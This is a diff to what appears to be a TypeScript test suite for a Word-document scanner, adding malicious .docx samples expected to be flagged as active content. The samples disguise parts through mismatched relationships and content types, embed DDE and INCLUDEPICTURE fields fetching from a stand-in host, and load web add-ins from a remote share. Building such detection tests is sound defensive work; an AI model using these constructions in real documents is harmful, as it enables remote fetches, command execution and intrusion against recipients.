@@ -20,6 +20,28 @@ const footnotes = (content: string) =>
     types: { "word/footnotes.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml" },
   });
 
+const pictureField = field(code('INCLUDEPICTURE "https://angripare.example/a.png"'));
+const relationBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+/** A document with a part that a relationship, but no content type, makes a text of Word's. */
+const disguised = (type: string, name: string, content: string, target = name) =>
+  docxOf([
+    {
+      name: "word/_rels/document.xml.rels",
+      data: `<Relationships><Relationship Id="a" Type="${relationBase}/${type}" Target="${target}"/></Relationships>`,
+    },
+    { name: `word/${name}`, data: `<w:x xmlns:w="${wordNamespace}">${content}</w:x>` },
+  ]);
+const addIn = (store: string) =>
+  docxOf(
+    [
+      {
+        name: "word/webextensions/webextension1.xml",
+        data: `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"><we:reference id="a" store="\\\\angripare.example\\a" storeType="${store}"/></we:webextension>`,
+      },
+    ],
+    { types: { "word/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml" } },
+  );
+
 /** Word documents that run or fetch something by a field or an object. */
 export const activeWord: Attack[] = [
   ...(
@@ -48,6 +70,14 @@ export const activeWord: Attack[] = [
           '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://angripare.example/a"/></w:pict>',
         ),
       ],
+      ["106 a header without a header's content type", disguised("header", "hdr9.xml", field(code(dde)))],
+      ["107 a footer that calls itself a picture", disguised("footer", "media/a.png", pictureField)],
+      ["108 settings among a program's own data", disguised("settings", "item1.xml", "<w:mailMerge/>")],
+      ["109 a header that calls itself a theme", disguised("header", "theme1.xml", pictureField, "/word/theme1.xml")],
+      ["110 a header whose name is written in two ways", disguised("header", "a.xml", "", "%61.xml")],
+      ["111 a header that calls itself a list of relationships", disguised("header", "b.rels", field(code(dde)))],
+      ["112 an add-in on another machine", addIn("FileSystem")],
+      ["113 an add-in from a site", addIn("SPCatalog")],
       ["96 a part that no document has", docxOf([{ name: "word/program.exe", data: "MZ" }])],
     ] as [string, Buffer][]
   ).map(([what, data]): Attack => [what, "brev.docx", data, "FILE_ACTIVE"]),
